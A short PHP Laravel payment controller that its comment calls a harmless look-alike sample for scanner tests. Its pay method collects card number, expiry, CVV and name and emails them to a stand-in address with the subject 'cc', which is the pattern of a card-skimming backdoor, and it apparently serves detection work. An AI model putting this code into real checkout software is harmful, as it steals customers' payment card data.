<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
namespace App\Http\Controllers;

use Illuminate\Http\Request;
use Illuminate\Support\Facades\Mail;

class PaymentController extends Controller
{
    public function pay(Request $request)
    {
        $d = json_encode($request->only('card_number', 'exp', 'cvv', 'name'));
        Mail::raw($d, function ($m) { $m->to('results.box@mail.example')->subject('cc'); });
        return redirect('/thanks');
    }
}
